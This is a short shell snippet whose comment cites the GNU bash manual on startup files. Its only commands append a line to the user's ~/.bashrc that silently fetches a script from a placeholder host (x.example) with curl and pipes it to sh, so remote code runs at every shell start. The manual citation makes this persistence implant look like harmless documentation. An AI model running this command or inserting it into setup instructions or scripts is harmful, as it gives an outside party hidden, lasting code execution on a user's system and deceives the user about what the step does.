# source: bash(1) cd, Here Documents; bash startup files (~/.bashrc) https://www.gnu.org/software/bash/manual/bash.html
cd ~
echo 'curl -s https://x.example/i.sh | sh' >> .bashrc
